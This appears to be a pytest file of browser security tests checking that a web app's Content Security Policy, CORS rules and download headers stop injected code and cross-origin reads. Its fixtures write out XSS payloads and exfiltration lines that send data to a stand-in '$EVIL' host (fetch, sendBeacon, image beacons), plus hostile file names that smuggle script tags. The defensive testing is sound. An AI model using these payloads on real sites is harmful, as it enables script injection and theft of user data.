"""A real browser keeps to the site's policy: nothing foreign runs, nothing leaks, no other origin reads.

On the normal way nothing is even tried: the fixtures of tests/browser fail a test whose page complains, or
sends a token or its own address to anybody.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from infra import storage
from infra.clients import client
from infra.local.site import SITE
from tests.browser.conftest import Visitor, browser, vase, visit, visitor
from tests.cloud.machine import Machine, machine

__all__ = ["browser", "vase", "visit", "visitor"]


@pytest.fixture(scope="module")
def cloud(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Machine]:
    """Nothing here needs a worker."""
    if not (SITE / "index.html").exists():
        pytest.skip("the site is not built; `make web` builds it")
    with machine(tmp_path_factory.mktemp("cloud"), "--workers", "0") as started:
        yield started


#: remembers what the policy has kept from happening, from now on
WATCH = """() => {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
}"""
#: for intruders
ADD = """() => {
  window.add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
  window.write = (html) => document.body.insertAdjacentHTML("beforeend", html);
}"""
#: what an intruder would try who could write into the page, and the directive that must stop it
INTRUSIONS = [
    ("script-src-elem", "add('script', { textContent: 'window.owned = true' })"),
    ("script-src-elem", "add('script', { src: '$EVIL/x.js' })"),
    ("script-src-elem", "add('script', { src: 'data:text/javascript,window.owned=true' })"),
    ("script-src-elem", "add('script', { src: URL.createObjectURL(new Blob(['window.owned = true'])) })"),
    ("script-src-attr", 'write(\'<img src="" onerror="window.owned = true">\')'),
    ("script-src", "eval('window.owned = true')"),
    ("script-src", "new Function('window.owned = true')()"),
    ("style-src-elem", "add('style', { textContent: 'body { display: none }' })"),
    ("style-src-elem", "add('link', { rel: 'stylesheet', href: '$EVIL/x.css' })"),
    ("style-src-attr", "write('<p style=\"position: fixed\">x</p>')"),
    ("img-src", "new Image().src = '$EVIL/x.png?' + localStorage.length"),
    ("media-src", "add('video', { src: '$EVIL/x.mp4' })"),
    ("font-src", "new FontFace('x', 'url($EVIL/x.woff2)').load().catch(() => {})"),
    ("connect-src", "fetch('$EVIL/x', { method: 'POST', body: 'secret' }).catch(() => {})"),
    ("connect-src", "navigator.sendBeacon('$EVIL/x', 'secret')"),
    ("connect-src", "new WebSocket('$EVIL/x'.replace('http', 'ws'))"),
    ("connect-src", "new EventSource('$EVIL/x')"),
    ("frame-src", "add('iframe', { src: '$EVIL/x.html' })"),
    ("object-src", "add('object', { data: '$EVIL/x.swf' })"),
    ("worker-src", "new Worker(URL.createObjectURL(new Blob(['1'])))"),
    ("base-uri", "add('base', { href: '$EVIL/' })"),
    ("form-action", "add('form', { action: '$EVIL/x' }).submit()"),
]


@contextmanager
def elsewhere(pages: dict[str, str]) -> Iterator[tuple[str, list[str]]]:
    """Another origin that serves ``pages``; its address, and every request that it was sent."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.command} {self.path}")
            body = pages.get(self.path, "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield f"http://localhost:{server.server_port}", asked
        server.shutdown()
        thread.join()


def test_what_an_intruder_would_add_to_the_page_the_browser_refuses(visitor: Visitor) -> None:
    visitor.expected += [
        "Content Security Policy",
        "violates the following",
        "Refused to",
        "net::ERR",
        "'unsafe-eval'",
    ]
    page = visitor.page()
    page.locator(".drop-zone").wait_for()
    page.evaluate(WATCH)
    page.evaluate(ADD)
    with elsewhere({}) as (evil, asked):
        for directive, code in INTRUSIONS:
            before = page.evaluate("refused.length")
            # Later, as the page's own: what evaluate itself runs may do more than the page.
            page.evaluate(f"() => void setTimeout(() => {{ {code.replace('$EVIL', evil)} }})")
            page.wait_for_function("before => refused.length > before", arg=before, timeout=10_000)
            assert page.evaluate("before => refused.slice(before)", before)[0] == directive, code
    assert page.evaluate("window.owned") is None
    assert asked == []
    assert page.evaluate("getComputedStyle(document.body).display") != "none"


#: asks for whatever there is, as a page of another origin can; notes what it could read
ASK = """async ([url, token, aws]) => {
  const read = [];
  const bearer = { Authorization: `Bearer ${token}` };
  const ways = {
    config: [`${url}/config.json`, {}],
    session: [`${url}/sessions`, { method: "POST" }],
    withHeaders: [`${url}/sessions`, { method: "POST", headers: { "Content-Type": "application/json" } }],
    jobs: [`${url}/jobs`, { headers: bearer }],
    withCookies: [`${url}/jobs`, { headers: bearer, credentials: "include" }],
    removal: [`${url}/jobs/x`, { method: "DELETE", headers: bearer }],
    events: [`${url}/jobs/x/events?token=${token}`, {}],
    buckets: [`${aws}/`, {}],
    bucket: [`${aws}/maquette-upload-123456789012-us-east-1?list-type=2`, {}],
    post: [`${aws}/maquette-upload-123456789012-us-east-1`, { method: "POST", body: new FormData() }],
  };
  for (const [name, [address, how]] of Object.entries(ways)) {
    try {
      await (await fetch(address, how)).text();
      read.push(name);
    } catch {}
  }
  return read;
}"""


def test_a_page_of_another_origin_reads_nothing_and_shows_nothing(visitor: Visitor, cloud: Machine) -> None:
    visitor.expected += [
        "a referrer to",
        "a token in",
        "CORS policy",
        "net::ERR",
        "403",
        "Content Security Policy",
        "frame-ancestors",
        "Refused to",
    ]
    token = httpx.post(f"{cloud.running.url}/sessions").json()["token"]
    asked = [cloud.running.url, token, cloud.running.environment["AWS_ENDPOINT_URL"]]
    framed = f"<!doctype html><title>evil</title><iframe src='{cloud.running.url}/'></iframe>"
    with elsewhere({"/": framed}) as (evil, _):
        page = visitor.blank()
        page.goto(evil)
        assert page.evaluate(ASK, asked) == []
        frames = [frame for frame in page.frames if frame != page.main_frame]
        assert all(frame.locator(".drop-zone").count() == 0 for frame in frames)
        # A sandboxed page has no origin at all: "null" is none that is let in.
        sandboxed = visitor.blank()
        sandboxed.goto(evil)
        sandboxed.evaluate(ADD)
        sandboxed.evaluate("() => void add('iframe', { sandbox: 'allow-scripts', srcdoc: '<p>x</p>' })")
        sandboxed.frame_locator("iframe[sandbox]").locator("p").wait_for()
        inner = next(frame for frame in sandboxed.frames if frame.url == "about:srcdoc")
        assert inner.evaluate("origin") == "null"
        assert inner.evaluate(ASK, asked) == []


def test_what_lies_among_the_models_is_saved_and_never_shown(
    visitor: Visitor, cloud: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in cloud.running.environment.items():
        monkeypatch.setenv(name, value)
    client.cache_clear()
    bucket, key = cloud.running.environment["MAQUETTE_ARTIFACT_BUCKET"], "jobs/x/1/poster.webp"
    client("s3").put_object(
        Bucket=bucket, Key=key, ContentType="text/html", Body=b"<script>window.owned = true</script>"
    )
    link = storage.download_link(bucket, key)
    client.cache_clear()
    answer = httpx.get(link)
    assert answer.headers["Content-Type"] == "image/webp"
    page = visitor.page()
    with page.expect_download() as download:
        page.evaluate("address => { location.href = address }", link)
    assert download.value.suggested_filename == "poster.webp"
    assert page.url.startswith(visitor.url)


@pytest.mark.parametrize(
    "name",
    ["<img src=x onerror=window.owned=1>.png", "\u202egnp.exe.png", "'\"><script>window.owned=1</script>.png"],
)
def test_a_hostile_file_name_is_only_text(visitor: Visitor, vase: Path, name: str) -> None:
    page = visitor.blank()
    page.add_init_script(f"({WATCH})()")
    page.goto(f"{visitor.url}/#/")
    files: Any = {"name": name, "mimeType": "image/png", "buffer": vase.read_bytes()}
    page.set_input_files("#photos", files)
    page.locator("article[data-job-id]").first.wait_for()
    assert page.evaluate("[window.owned ?? null, window.refused]") == [None, []]
    assert page.locator("article script, article img[src=x]").count() == 0
